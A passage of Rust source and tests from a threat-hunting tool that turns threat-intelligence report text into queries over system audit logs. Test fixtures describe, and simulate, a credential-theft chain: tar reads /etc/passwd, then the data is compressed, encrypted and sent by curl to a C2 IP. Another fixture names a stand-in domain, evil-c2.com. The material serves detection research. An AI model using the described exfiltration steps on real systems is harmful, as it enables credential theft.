        let mut hunt = ThreatRaptor::stream().unwrap();
        let (qid, _, text) = hunt
            .register_report(
                "report",
                "The attacker used /bin/tar to read credentials from /etc/passwd.",
                &SynthesisPlan::default(),
            )
            .unwrap();
        assert!(text.contains("read"), "{text}");
        let mut first_hit = None;
        for batch in EpochStream::new(&log, EpochPolicy::ByCount(2)) {
            let report = hunt.ingest_batch(&batch).unwrap();
            if first_hit.is_none() && report.deltas[0].delta.n_rows() > 0 {
                first_hit = Some(report.epoch);
            }
        }
        assert!(first_hit.is_some(), "standing query never fired");
        assert!(hunt.session().query(qid).cumulative_batch().n_rows() > 0);
    }
}
