//! TBQL query synthesis (Section III-E).
//!
//! Turns a threat behavior graph into a TBQL query in four steps:
//!
//! 1. **Pre-synthesis screening & IOC relation mapping** — nodes whose IOC
//!    types are not captured by the auditing component (domains, URLs,
//!    hashes, registry keys, ...) are dropped with their edges; each
//!    remaining edge's relation verb is mapped to a TBQL operation by rules
//!    keyed on (verb, source type, destination type) — e.g. `download`
//!    between two file paths ⇒ `write` (a process writes the file), but
//!    `download` from a file path to an IP ⇒ `read` (a process reads from
//!    the network). Unmapped relations drop their edges.
//! 2. **TBQL pattern synthesis** — source nodes become `proc` entities,
//!    sinks become `ip` / `file` / `proc` entities depending on IOC type and
//!    mapped operation; attribute strings get `%` wildcards (IPs stay
//!    exact). The default plan emits event patterns; a [`SynthesisPlan`] can
//!    request variable-length path patterns instead.
//! 3. **Pattern relationship synthesis** — edge sequence numbers become a
//!    `with evtᵢ before evtⱼ` chain (omitted for path patterns).
//! 4. **Return synthesis** — all entity ids, `distinct`, default attributes.

use raptor_common::error::{Error, Result};
use raptor_common::hash::FxHashMap;
use raptor_extract::{GraphEdge, IocType, ThreatBehaviorGraph};
use raptor_tbql::{
    Arrow, AttrExpr, EntityDecl, EntityType, OpExpr, Pattern, PatternOp, Query, RelClause,
    ReturnClause, TemporalOp, Value, Window,
};

/// Operations a synthesized pattern can carry.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum MappedOp {
    Read,
    Write,
    Execute,
    Start,
    Connect,
    Rename,
}

impl MappedOp {
    fn name(self) -> &'static str {
        match self {
            MappedOp::Read => "read",
            MappedOp::Write => "write",
            MappedOp::Execute => "execute",
            MappedOp::Start => "start",
            MappedOp::Connect => "connect",
            MappedOp::Rename => "rename",
        }
    }
}

/// Is this IOC type observable by the system auditing component?
fn captured(ty: IocType) -> bool {
    ty.is_file_like() || ty == IocType::Ip
}

/// The IOC-relation mapping rules: (verb, src family, dst family) → op.
/// Returns `None` when no rule matches (the edge is screened out).
fn map_relation(verb: &str, src: IocType, dst: IocType) -> Option<MappedOp> {
    let dst_net = dst == IocType::Ip;
    let files = src.is_file_like() && dst.is_file_like();
    Some(match verb {
        // Data acquisition: to a file ⇒ the process writes it; from the
        // network ⇒ the process reads the connection.
        "download" | "fetch" | "retrieve" | "receive" | "pull" => {
            if dst_net {
                MappedOp::Read
            } else if files {
                MappedOp::Write
            } else {
                return None;
            }
        }
        // Reading-flavoured verbs.
        "read" | "open" | "access" | "scan" | "scrape" | "load" | "steal" | "gather"
        | "collect" | "extract" | "crack" | "dump"
            if dst_net || files =>
        {
            MappedOp::Read
        }
        // Writing-flavoured verbs; toward the network they are exfiltration.
        "write" | "drop" | "save" | "store" | "copy" | "create" | "install" | "modify"
        | "append" | "compress" | "encrypt" | "encode" | "pack" | "zip" | "inject"
            if dst_net || files =>
        {
            MappedOp::Write
        }
        "upload" | "send" | "leak" | "exfiltrate" | "transfer" | "mail" if dst_net || files => {
            MappedOp::Write
        }
        // Execution: a file event by default — the paper's documented
        // ambiguity ("run" could equally be a process-start event).
        "execute" | "run" if files => MappedOp::Execute,
        // Process creation.
        "launch" | "start" | "spawn" if files => MappedOp::Start,
        // Network contact.
        "connect" | "beacon" | "visit" if dst_net => MappedOp::Connect,
        "rename" if files => MappedOp::Rename,
        _ => return None,
    })
}

/// Synthesis configuration ("user-defined synthesis plans" in the paper).
#[derive(Clone, Debug)]
pub struct SynthesisPlan {
    /// Emit variable-length event path patterns instead of event patterns
    /// (bridges threat steps that audit logs record via intermediate
    /// processes omitted from the OSCTI text).
    pub use_path_patterns: bool,
    /// Maximum path length for path patterns (None = unbounded).
    pub path_max_len: Option<u32>,
    /// Optional global time window added to the query.
    pub window: Option<Window>,
    /// Emit the temporal `with` chain (event patterns only).
    pub temporal_chain: bool,
}

impl Default for SynthesisPlan {
    fn default() -> Self {
        SynthesisPlan {
            use_path_patterns: false,
            path_max_len: Some(3),
            window: None,
            temporal_chain: true,
        }
    }
}

/// Wraps an IOC string in `%` wildcards (IPs stay exact, as in Figure 2).
fn attr_value(text: &str, exact: bool) -> AttrExpr {
    let v = if exact { text.to_string() } else { format!("%{text}%") };
    AttrExpr::Bare { negated: false, value: Value::Str(v) }
}

/// Synthesizes a TBQL query from a threat behavior graph.
///
/// Returns an error when screening/mapping leaves no usable edge (the paper:
/// extraction "is not applicable if the OSCTI text ... contains little
/// useful information").
pub fn synthesize(graph: &ThreatBehaviorGraph, plan: &SynthesisPlan) -> Result<Query> {
    // Step 1: screening + relation mapping.
    struct MappedEdge<'a> {
        edge: &'a GraphEdge,
        op: MappedOp,
    }
    let mut edges: Vec<MappedEdge<'_>> = Vec::new();
    for e in &graph.edges {
        let src = &graph.nodes[e.src];
        let dst = &graph.nodes[e.dst];
        if !captured(src.ioc_type) || !captured(dst.ioc_type) {
            continue;
        }
        if let Some(op) = map_relation(&e.relation, src.ioc_type, dst.ioc_type) {
            edges.push(MappedEdge { edge: e, op });
        }
    }
    if edges.is_empty() {
        return Err(Error::config(
            "no synthesizable edges: the threat behavior graph has no relations \
             over auditable IOC types",
        ));
    }

    // Step 2: entity synthesis. Each graph node gets one entity id per role
    // kind it plays (a file IOC can act as a process when it is a source and
    // as a file when it is a sink — e.g. a dropped-then-running implant).
    let mut entity_ids: FxHashMap<(usize, EntityType), String> = FxHashMap::default();
    let mut counters = (0usize, 0usize, 0usize); // proc, file, ip
    let mut declared: FxHashMap<String, bool> = FxHashMap::default(); // id → filter emitted?
    let mut entity_for = |node: usize, ty: EntityType| -> String {
        if let Some(id) = entity_ids.get(&(node, ty)) {
            return id.clone();
        }
        let id = match ty {
            EntityType::Proc => {
                counters.0 += 1;
                format!("p{}", counters.0)
            }
            EntityType::File => {
                counters.1 += 1;
                format!("f{}", counters.1)
            }
            EntityType::Ip => {
                counters.2 += 1;
                format!("i{}", counters.2)
            }
        };
        entity_ids.insert((node, ty), id.clone());
        id
    };

    let mut patterns = Vec::with_capacity(edges.len());
    let mut order: Vec<String> = Vec::new(); // pattern ids in seq order
    for (k, me) in edges.iter().enumerate() {
        let src_node = &graph.nodes[me.edge.src];
        let dst_node = &graph.nodes[me.edge.dst];
        // Source is always a process entity.
        let subj_id = entity_for(me.edge.src, EntityType::Proc);
        let subj_filter = if !declared.get(&subj_id).copied().unwrap_or(false) {
            declared.insert(subj_id.clone(), true);
            Some(attr_value(&src_node.text, false))
        } else {
            None
        };
        // Object kind: by IOC type and mapped operation.
        let obj_ty = if dst_node.ioc_type == IocType::Ip {
            EntityType::Ip
        } else if me.op == MappedOp::Start {
            EntityType::Proc
        } else {
            EntityType::File
        };
        let obj_id = entity_for(me.edge.dst, obj_ty);
        let obj_filter = if !declared.get(&obj_id).copied().unwrap_or(false) {
            declared.insert(obj_id.clone(), true);
            Some(attr_value(&dst_node.text, obj_ty == EntityType::Ip))
        } else {
            None
        };
        let op_expr = OpExpr::Op(me.op.name().to_string());
        let op = if plan.use_path_patterns {
            PatternOp::Path {
                arrow: Arrow::Fuzzy,
                min: None,
                max: plan.path_max_len,
                op: Some(op_expr),
            }
        } else {
            PatternOp::Event(op_expr)
        };
        let id = format!("evt{}", k + 1);
        order.push(id.clone());
        patterns.push(Pattern {
            subject: EntityDecl { ty: EntityType::Proc, id: subj_id, filter: subj_filter },
            op,
            object: EntityDecl { ty: obj_ty, id: obj_id, filter: obj_filter },
            id: Some(id),
            event_filter: None,
            window: None,
        });
    }

    // Step 3: temporal chain (event patterns only).
    let relations = if plan.temporal_chain && !plan.use_path_patterns {
        order
            .windows(2)
            .map(|w| RelClause::Temporal {
                left: w[0].clone(),
                op: TemporalOp::Before,
                range: None,
                right: w[1].clone(),
            })
            .collect()
    } else {
        Vec::new()
    };

    // Step 4: return clause — all entity ids, first-appearance order.
    let mut seen = raptor_common::FxHashSet::default();
    let mut items = Vec::new();
    for p in &patterns {
        for id in [&p.subject.id, &p.object.id] {
            if seen.insert(id.clone()) {
                items.push(raptor_tbql::AttrRef { base: id.clone(), attr: None });
            }
        }
    }

    let global_filters =
        plan.window.clone().map(|w| vec![raptor_tbql::GlobalFilter::Window(w)]).unwrap_or_default();

    Ok(Query { global_filters, patterns, relations, ret: ReturnClause { distinct: true, items } })
}

#[cfg(test)]
mod tests {
    use super::*;
    use raptor_extract::extract;
    use raptor_tbql::print::print_query;

    const FIG2_TEXT: &str = "\
As a first step, the attacker used /bin/tar to read user credentials \
from /etc/passwd. It wrote the gathered information to a file /tmp/upload.tar. \
/bin/bzip2 read from /tmp/upload.tar and wrote to /tmp/upload.tar.bz2. \
This corresponds to the launched process /usr/bin/gpg reading from /tmp/upload.tar.bz2. \
/usr/bin/gpg then wrote the sensitive information to /tmp/upload. \
Finally, the attacker used /usr/bin/curl to read the data from /tmp/upload. \
He leaked the data back to the C2 host by using /usr/bin/curl to connect to 192.168.29.128.";

    #[test]
    fn figure2_synthesis_matches_paper_structure() {
        let out = extract(FIG2_TEXT);
        let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
        // 8 event patterns, chained with 7 before-relations, distinct return.
        assert_eq!(q.patterns.len(), 8, "{}", print_query(&q));
        assert_eq!(q.relations.len(), 7);
        assert!(q.ret.distinct);
        // Entity reuse: the tar process appears in two patterns with one
        // filter declaration.
        assert_eq!(q.patterns[0].subject.id, q.patterns[1].subject.id);
        assert!(q.patterns[0].subject.filter.is_some());
        assert!(q.patterns[1].subject.filter.is_none());
        // The IP is exact, files are wildcarded.
        let printed = print_query(&q);
        assert!(printed.contains(r#"ip i1["192.168.29.128"]"#), "{printed}");
        assert!(printed.contains(r#"["%/etc/passwd%"]"#), "{printed}");
        // Round-trips through the parser and analyzer.
        let reparsed = raptor_tbql::parse_tbql(&printed).unwrap();
        raptor_tbql::analyze(&reparsed).unwrap();
    }

    #[test]
    fn mapping_rules_match_paper_examples() {
        use IocType::*;
        // download between file paths ⇒ write.
        assert_eq!(map_relation("download", FilePath, FilePath), Some(MappedOp::Write));
        // download from file path to IP ⇒ read.
        assert_eq!(map_relation("download", FilePath, Ip), Some(MappedOp::Read));
        assert_eq!(map_relation("connect", FilePath, Ip), Some(MappedOp::Connect));
        assert_eq!(map_relation("launch", FilePath, FileName), Some(MappedOp::Start));
        assert_eq!(map_relation("run", FilePath, FilePath), Some(MappedOp::Execute));
        // Unknown verbs map nowhere.
        assert_eq!(map_relation("resemble", FilePath, FilePath), None);
        // connect to a file makes no sense.
        assert_eq!(map_relation("connect", FilePath, FilePath), None);
    }

    #[test]
    fn screening_drops_unauditable_types() {
        let text = "The malware /tmp/implant beacons to evil-c2.com. \
                    It wrote the stolen data to /tmp/out.dat.";
        let out = extract(text);
        // Graph has a domain node, but the synthesized query must not.
        let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
        let printed = print_query(&q);
        assert!(!printed.contains("evil-c2.com"), "{printed}");
        assert!(printed.contains("/tmp/out.dat"), "{printed}");
    }

    #[test]
    fn start_relation_yields_proc_object() {
        let text = "The dropper /tmp/stage1 launched /tmp/stage2.";
        let out = extract(text);
        let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
        assert_eq!(q.patterns.len(), 1);
        assert_eq!(q.patterns[0].object.ty, EntityType::Proc);
        match &q.patterns[0].op {
            PatternOp::Event(OpExpr::Op(op)) => assert_eq!(op, "start"),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn path_plan_emits_paths_without_temporal_chain() {
        let out = extract(FIG2_TEXT);
        let plan = SynthesisPlan { use_path_patterns: true, ..Default::default() };
        let q = synthesize(&out.graph, &plan).unwrap();
        assert!(q.patterns.iter().all(|p| matches!(p.op, PatternOp::Path { .. })));
        assert!(q.relations.is_empty());
        let printed = print_query(&q);
        assert!(printed.contains("~>(~3)[read]"), "{printed}");
        raptor_tbql::analyze(&raptor_tbql::parse_tbql(&printed).unwrap()).unwrap();
    }

    #[test]
    fn empty_graph_is_an_error() {
        let out = extract("Nothing threatening is described here at all.");
        assert!(synthesize(&out.graph, &SynthesisPlan::default()).is_err());
    }

    #[test]
    fn dual_role_node_gets_two_entities() {
        // stage2 is written as a file, then connects as a process.
        let text = "The loader /tmp/stage1 wrote the implant /tmp/stage2. \
                    /tmp/stage2 connected to 10.9.8.7.";
        let out = extract(text);
        let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
        let printed = print_query(&q);
        // stage2 appears both as file object and process subject.
        assert!(printed.contains(r#"file f1["%/tmp/stage2%"]"#), "{printed}");
        assert!(printed.contains(r#"proc p2["%/tmp/stage2%"]"#), "{printed}");
        raptor_tbql::analyze(&raptor_tbql::parse_tbql(&printed).unwrap()).unwrap();
    }
}
