//! # ThreatRaptor
//!
//! An OSCTI-driven cyber threat hunting system over system audit logs — a
//! from-scratch Rust reproduction of *"Enabling Efficient Cyber Threat
//! Hunting With Cyber Threat Intelligence"* (ICDE 2021).
//!
//! The facade ties the workspace together:
//!
//! ```text
//!  OSCTI report ──► raptor-extract ──► threat behavior graph
//!                                            │ (query synthesis, this crate)
//!                                            ▼
//!  audit records ─► raptor-audit ──► raptor-engine ◄── TBQL (raptor-tbql)
//!                   (parse+reduce)   (SQL + Cypher backends)
//! ```
//!
//! ## Quickstart
//!
//! ```
//! use threatraptor::ThreatRaptor;
//! use raptor_audit::sim::Simulator;
//! use raptor_common::time::Timestamp;
//!
//! // 1. Collect audit records (here: simulated).
//! let mut sim = Simulator::new(1, Timestamp::from_secs(0));
//! let shell = sim.boot_process("/bin/bash", "root");
//! let tar = sim.spawn(shell, "/bin/tar", "tar cf /tmp/out.tar");
//! sim.read_file(tar, "/etc/passwd", 4096, 4);
//! let records = sim.finish();
//!
//! // 2. Stand up ThreatRaptor over the records.
//! let raptor = ThreatRaptor::from_records(&records).unwrap();
//!
//! // 3. Hunt straight from CTI text.
//! let report = "The attacker used /bin/tar to read credentials from /etc/passwd.";
//! let outcome = raptor.hunt(report).unwrap();
//! assert_eq!(outcome.results.rows.len(), 1);
//! ```

pub mod raptor;
pub mod stream;
pub mod synthesis;

pub use raptor::{HuntOutcome, ThreatRaptor};
pub use stream::HuntStream;

// Durability plane: WAL + checkpoints + crash recovery
// (`ThreatRaptor::open` / `open_with_fs`).
pub use raptor_stream::{DurablePolicy, DurableSession, RecoveryReport};
pub use synthesis::{synthesize, SynthesisPlan};

// Observability plane: trace spans, metrics registry, slow-query log
// (`raptor_common::obs`) and EXPLAIN redaction control (`Redact`).
pub use raptor_common::obs;
pub use raptor_engine::Redact;

// Re-export the sub-crates so downstream users need only one dependency.
pub use raptor_audit as audit;
pub use raptor_common as common;
pub use raptor_engine as engine;
pub use raptor_extract as extract;
pub use raptor_graphstore as graphstore;
pub use raptor_nlp as nlp;
pub use raptor_relstore as relstore;
pub use raptor_storage as storage;
pub use raptor_stream as streaming;
pub use raptor_tbql as tbql;
