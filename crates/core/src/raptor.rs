//! The ThreatRaptor facade.
//!
//! One struct that owns the loaded stores and exposes the whole pipeline:
//! ingest audit records, extract threat behavior from OSCTI text, synthesize
//! TBQL, execute (exact or fuzzy), or run hand-written TBQL directly
//! ("proactive threat hunting" in the paper's terms).

use std::path::Path;
use std::sync::Arc;

use raptor_audit::{reduce, LogParser, ParsedLog, SyscallRecord};
use raptor_common::error::{Error, Result};
use raptor_common::io::{DirFs, Fs};
use raptor_engine::exec::{Engine, EngineStats, ExecMode, ResultTable};
use raptor_engine::fuzzy::{self, FuzzyConfig, FuzzyOutcome, QueryGraph};
use raptor_engine::load::{self, load};
use raptor_engine::provenance::{build_from_stores, ProvTimings};
use raptor_extract::{extract, ExtractionOutput, ThreatBehaviorGraph};
use raptor_stream::{DurablePolicy, DurableSession, RecoveryReport};
use raptor_tbql::print::print_query;
use raptor_tbql::{analyze, parse_tbql, Query};

use crate::synthesis::{synthesize, SynthesisPlan};

/// Everything a text-driven hunt produces.
#[derive(Debug)]
pub struct HuntOutcome {
    /// The extraction output (entities, triples, graph, timings).
    pub extraction: ExtractionOutput,
    /// The synthesized query (AST) and its rendered text.
    pub query: Query,
    pub query_text: String,
    /// Execution results.
    pub results: ResultTable,
    pub engine_stats: EngineStats,
}

/// The facade's backing mode: a volatile batch-loaded engine, or a durable
/// streaming session whose store survives restarts.
enum Inner {
    // Both variants are boxed: each carries whole-store state (712+ bytes
    // of engine, more for a durable session), far too big to pass inline.
    Batch(Box<Engine>),
    Durable(Box<DurableSession>),
}

/// The ThreatRaptor system: loaded stores + query engine.
pub struct ThreatRaptor {
    inner: Inner,
}

impl ThreatRaptor {
    /// Parses raw audit records (applying the data-reduction pass with the
    /// paper's 1 s threshold) and loads both storage backends.
    pub fn from_records(records: &[SyscallRecord]) -> Result<Self> {
        let mut log = LogParser::parse(records);
        reduce::merge_events(&mut log.events, reduce::DEFAULT_THRESHOLD);
        Self::from_log(&log)
    }

    /// Loads an already-parsed (and reduced) log.
    pub fn from_log(log: &ParsedLog) -> Result<Self> {
        Ok(ThreatRaptor { inner: Inner::Batch(Box::new(Engine::new(load(log)?))) })
    }

    /// Opens (or recovers) a *durable* system over a directory: every
    /// append is write-ahead logged, [`ThreatRaptor::checkpoint`]
    /// serializes the store, and re-opening the same path resumes exactly
    /// at the last durable point (see `raptor_stream::DurableSession`).
    pub fn open(path: impl AsRef<Path>) -> Result<Self> {
        Self::open_with_fs(Arc::new(DirFs::new(path)?), DurablePolicy::default())
    }

    /// [`ThreatRaptor::open`] over an explicit file backend and policy
    /// (in-memory and fault-injected backends live in `raptor_common::io`).
    pub fn open_with_fs(fs: Arc<dyn Fs>, policy: DurablePolicy) -> Result<Self> {
        Ok(ThreatRaptor { inner: Inner::Durable(Box::new(DurableSession::open(fs, policy)?)) })
    }

    fn eng(&self) -> &Engine {
        match &self.inner {
            Inner::Batch(e) => e.as_ref(),
            Inner::Durable(d) => d.engine(),
        }
    }

    pub fn engine(&self) -> &Engine {
        self.eng()
    }

    pub fn engine_mut(&mut self) -> &mut Engine {
        match &mut self.inner {
            Inner::Batch(e) => e.as_mut(),
            Inner::Durable(d) => d.engine_mut(),
        }
    }

    /// The durable session backing this system, when opened with
    /// [`ThreatRaptor::open`] (register standing queries, inspect epochs).
    pub fn durable(&self) -> Option<&DurableSession> {
        match &self.inner {
            Inner::Durable(d) => Some(d),
            Inner::Batch(_) => None,
        }
    }

    pub fn durable_mut(&mut self) -> Option<&mut DurableSession> {
        match &mut self.inner {
            Inner::Durable(d) => Some(d),
            Inner::Batch(_) => None,
        }
    }

    /// What recovery found when this system was opened durably: checkpoint
    /// used, WAL records replayed, bytes discarded from the torn tail.
    /// `None` for batch-loaded (volatile) systems.
    pub fn recovery_report(&self) -> Option<&RecoveryReport> {
        self.durable().map(|d| d.recovery_report())
    }

    /// Appends a parsed log increment. Durable systems ingest it as one
    /// committed (WAL-logged + fsynced) epoch; batch systems append
    /// directly. Entity ids must continue the store's dense id space.
    pub fn append_log(&mut self, log: &ParsedLog) -> Result<()> {
        match &mut self.inner {
            Inner::Batch(e) => {
                let mut stats = raptor_storage::BackendStats::default();
                load::append_log(&mut e.stores, log, &mut stats)
            }
            Inner::Durable(d) => d.ingest(&log.entities, &log.events).map(|_| ()),
        }
    }

    /// Parses + reduces raw records and appends them via
    /// [`ThreatRaptor::append_log`].
    pub fn append_records(&mut self, records: &[SyscallRecord]) -> Result<()> {
        let mut log = LogParser::parse(records);
        reduce::merge_events(&mut log.events, reduce::DEFAULT_THRESHOLD);
        self.append_log(&log)
    }

    /// Checkpoints a durable system now (atomic replace + WAL truncation).
    /// Errors on batch-loaded systems, which have nothing to persist to.
    pub fn checkpoint(&mut self) -> Result<()> {
        match &mut self.inner {
            Inner::Durable(d) => d.checkpoint(),
            Inner::Batch(_) => {
                Err(Error::storage("checkpoint() requires a durable system (ThreatRaptor::open)"))
            }
        }
    }

    /// Pins the worker count across the whole execution plane (engine
    /// dependency chains, store scans/joins, graph traversal). Defaults to
    /// `RAPTOR_THREADS` / available parallelism; `1` takes the strictly
    /// sequential code paths everywhere.
    pub fn set_threads(&mut self, threads: usize) {
        match &mut self.inner {
            Inner::Batch(e) => e.set_threads(threads),
            Inner::Durable(d) => d.set_threads(threads),
        }
    }

    /// Re-segments the relational store's columnar tables to `rows`-row
    /// segments (see `RAPTOR_SEGMENT_ROWS`; results are byte-identical at
    /// every capacity — only scan granularity and segment counters change).
    pub fn set_segment_rows(&mut self, rows: usize) {
        match &mut self.inner {
            Inner::Batch(e) => e.set_segment_rows(rows),
            Inner::Durable(d) => d.set_segment_rows(rows),
        }
    }

    /// Extracts a threat behavior graph from OSCTI text (Algorithm 1).
    pub fn extract_report(&self, text: &str) -> ExtractionOutput {
        extract(text)
    }

    /// Synthesizes a TBQL query from a threat behavior graph.
    pub fn synthesize_query(
        &self,
        graph: &ThreatBehaviorGraph,
        plan: &SynthesisPlan,
    ) -> Result<Query> {
        synthesize(graph, plan)
    }

    /// End-to-end hunt: text → graph → TBQL → execution (exact search).
    pub fn hunt(&self, report: &str) -> Result<HuntOutcome> {
        self.hunt_with_plan(report, &SynthesisPlan::default())
    }

    /// End-to-end hunt with a custom synthesis plan.
    pub fn hunt_with_plan(&self, report: &str, plan: &SynthesisPlan) -> Result<HuntOutcome> {
        let extraction = self.extract_report(report);
        let query = synthesize(&extraction.graph, plan)?;
        let query_text = print_query(&query);
        let aq = analyze(&query)?;
        let (results, engine_stats) = self.eng().execute(&aq, ExecMode::Scheduled)?;
        Ok(HuntOutcome { extraction, query, query_text, results, engine_stats })
    }

    /// Runs a hand-written TBQL query (proactive hunting).
    pub fn query(&self, tbql: &str) -> Result<ResultTable> {
        let (table, _) = self.eng().execute_text(tbql, ExecMode::Scheduled)?;
        Ok(table)
    }

    /// Runs a TBQL query under a specific execution mode (used by the
    /// benchmark harness for the giant-SQL / giant-Cypher baselines).
    pub fn query_with_mode(
        &self,
        tbql: &str,
        mode: ExecMode,
    ) -> Result<(ResultTable, EngineStats)> {
        self.eng().execute_text(tbql, mode)
    }

    /// Renders the execution plan for a TBQL query without running its
    /// patterns: seeding candidates, scheduler choice, pattern order,
    /// per-pattern cost estimates. See `raptor_engine::explain`.
    pub fn explain(&self, tbql: &str) -> Result<String> {
        self.eng().explain_text(tbql)
    }

    /// Executes a TBQL query and renders the plan annotated with actuals:
    /// rows, Q-error, access path, backend counters, wall times. `Redact::
    /// Stable` elides volatile fields (timings, scan granularity) so the
    /// output is byte-identical across thread counts and segment sizes.
    pub fn explain_analyze(
        &self,
        tbql: &str,
        redact: raptor_engine::Redact,
    ) -> Result<(ResultTable, String)> {
        self.eng().explain_analyze_text(tbql, redact)
    }

    /// Snapshots the process-wide metrics registry (counters, gauges,
    /// histograms). Refreshes point-in-time gauges (dictionary size, pinned
    /// worker count) before capturing. Render with `to_json()` or
    /// `to_prometheus()`.
    pub fn metrics(&self) -> raptor_common::obs::MetricsSnapshot {
        let m = raptor_common::obs::metrics();
        m.gauge_set("raptor_dict_symbols", self.eng().stores.dict.len() as i64);
        m.gauge_set("raptor_threads", self.eng().pool().threads() as i64);
        m.gauge_set(
            "raptor_path_frontier_entries",
            raptor_engine::standing::frontier_entries_total(),
        );
        m.snapshot()
    }

    /// Fuzzy search: aligns a TBQL query against the provenance graph using
    /// inexact (Poirot-style) graph pattern matching. Returns the outcome
    /// plus the loading/preprocessing timings of Table IX.
    pub fn fuzzy_query(
        &self,
        tbql: &str,
        cfg: &FuzzyConfig,
    ) -> Result<(FuzzyOutcome, ProvTimings)> {
        let q = parse_tbql(tbql)?;
        let aq = analyze(&q)?;
        let (prov, timings) = build_from_stores(&self.eng().stores)?;
        let qg = QueryGraph::from_analyzed(&aq);
        Ok((fuzzy::search(&prov, &qg, cfg), timings))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
    use raptor_common::time::Timestamp;

    fn system_with_fig2_attack() -> ThreatRaptor {
        let mut sim = Simulator::new(2024, Timestamp::from_secs(1_500_000_000));
        generate_background(
            &mut sim,
            &BackgroundProfile { users: 4, sessions: 40, ..Default::default() },
        );
        let shell = sim.boot_process("/bin/bash", "root");
        let tar = sim.spawn(shell, "/bin/tar", "tar cf /tmp/upload.tar");
        sim.read_file(tar, "/etc/passwd", 4096, 4);
        sim.write_file(tar, "/tmp/upload.tar", 4096, 4);
        sim.exit(tar);
        let bzip = sim.spawn(shell, "/bin/bzip2", "bzip2");
        sim.read_file(bzip, "/tmp/upload.tar", 4096, 2);
        sim.write_file(bzip, "/tmp/upload.tar.bz2", 2048, 2);
        sim.exit(bzip);
        let gpg = sim.spawn(shell, "/usr/bin/gpg", "gpg");
        sim.read_file(gpg, "/tmp/upload.tar.bz2", 2048, 2);
        sim.write_file(gpg, "/tmp/upload", 2048, 2);
        sim.exit(gpg);
        let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
        sim.read_file(curl, "/tmp/upload", 2048, 2);
        let fd = sim.connect(curl, "192.168.29.128", 443);
        sim.send(curl, fd, 2048, 4);
        sim.exit(curl);
        ThreatRaptor::from_records(&sim.finish()).unwrap()
    }

    const FIG2_TEXT: &str = "\
As a first step, the attacker used /bin/tar to read user credentials \
from /etc/passwd. It wrote the gathered information to a file /tmp/upload.tar. \
/bin/bzip2 read from /tmp/upload.tar and wrote to /tmp/upload.tar.bz2. \
This corresponds to the launched process /usr/bin/gpg reading from /tmp/upload.tar.bz2. \
/usr/bin/gpg then wrote the sensitive information to /tmp/upload. \
Finally, the attacker used /usr/bin/curl to read the data from /tmp/upload. \
He leaked the data back to the C2 host by using /usr/bin/curl to connect to 192.168.29.128.";

    #[test]
    fn end_to_end_hunt_finds_the_attack() {
        let raptor = system_with_fig2_attack();
        let outcome = raptor.hunt(FIG2_TEXT).unwrap();
        assert_eq!(outcome.extraction.graph.edges.len(), 8);
        assert_eq!(outcome.results.rows.len(), 1, "{:?}", outcome.results.rows);
        let row = &outcome.results.rows[0];
        assert!(row.contains(&"/bin/tar".to_string()));
        assert!(row.contains(&"192.168.29.128".to_string()));
    }

    #[test]
    fn proactive_query_without_oscti() {
        let raptor = system_with_fig2_attack();
        let r = raptor.query(r#"proc p["%curl%"] connect ip i return p, i"#).unwrap();
        assert_eq!(r.rows.len(), 1);
        assert_eq!(r.rows[0][1], "192.168.29.128");
    }

    #[test]
    fn fuzzy_query_tolerates_typos() {
        let raptor = system_with_fig2_attack();
        let (out, timings) = raptor
            .fuzzy_query(
                r#"proc p["%/usr/bin/cur1%"] connect ip i["192.168.29.128"] as e1 return p, i"#,
                &FuzzyConfig::default(),
            )
            .unwrap();
        assert!(!out.alignments.is_empty());
        assert!(timings.loading >= 0.0);
        // The exact search finds nothing for the typo'd IOC.
        let exact = raptor
            .query(r#"proc p["%/usr/bin/cur1%"] connect ip i["192.168.29.128"] as e1 return p, i"#)
            .unwrap();
        assert!(exact.rows.is_empty());
    }

    #[test]
    fn explain_and_metrics_facade() {
        let raptor = system_with_fig2_attack();
        let q = r#"proc p["%curl%"] connect ip i return p, i"#;
        let plan = raptor.explain(q).unwrap();
        assert!(plan.starts_with("EXPLAIN\n"), "{plan}");
        assert!(plan.contains("scheduler:"), "{plan}");
        let (table, report) = raptor.explain_analyze(q, raptor_engine::Redact::Stable).unwrap();
        assert_eq!(table.rows.len(), 1);
        assert!(report.starts_with("EXPLAIN ANALYZE\n"), "{report}");
        assert!(report.contains("q_err="), "{report}");
        let snap = raptor.metrics();
        assert!(snap.get("raptor_dict_symbols").is_some());
        assert!(snap.get("raptor_threads").is_some());
        assert!(snap.to_prometheus().contains("raptor_dict_symbols"));
    }

    #[test]
    fn hunt_with_path_plan() {
        let raptor = system_with_fig2_attack();
        let plan = SynthesisPlan { use_path_patterns: true, ..Default::default() };
        let outcome = raptor.hunt_with_plan(FIG2_TEXT, &plan).unwrap();
        assert!(outcome.query_text.contains("~>"));
        assert_eq!(outcome.results.rows.len(), 1);
    }
}
