//! Property-based tests: the TBQL printer/parser round-trip over generated
//! queries, and metric sanity.

use proptest::prelude::*;
use raptor_tbql::print::print_query;
use raptor_tbql::*;

fn arb_value() -> impl Strategy<Value = Value> {
    prop_oneof![(0i64..100_000).prop_map(Value::Int), "[a-z0-9/%._-]{1,16}".prop_map(Value::Str),]
}

fn arb_cmp_op() -> impl Strategy<Value = CmpOp> {
    prop_oneof![
        Just(CmpOp::Eq),
        Just(CmpOp::Ne),
        Just(CmpOp::Lt),
        Just(CmpOp::Le),
        Just(CmpOp::Gt),
        Just(CmpOp::Ge),
    ]
}

fn arb_attr_expr() -> impl Strategy<Value = AttrExpr> {
    let leaf = prop_oneof![
        (proptest::bool::ANY, arb_value())
            .prop_map(|(negated, value)| AttrExpr::Bare { negated, value }),
        ("[a-z]{1,8}", arb_cmp_op(), arb_value()).prop_map(|(a, op, value)| AttrExpr::Cmp {
            attr: AttrRef { base: a, attr: None },
            op,
            value,
        }),
        ("[a-z]{1,8}", proptest::bool::ANY, proptest::collection::vec(arb_value(), 1..4)).prop_map(
            |(a, negated, set)| AttrExpr::InSet {
                attr: AttrRef { base: a, attr: None },
                negated,
                set,
            }
        ),
    ];
    leaf.prop_recursive(3, 12, 2, |inner| {
        prop_oneof![
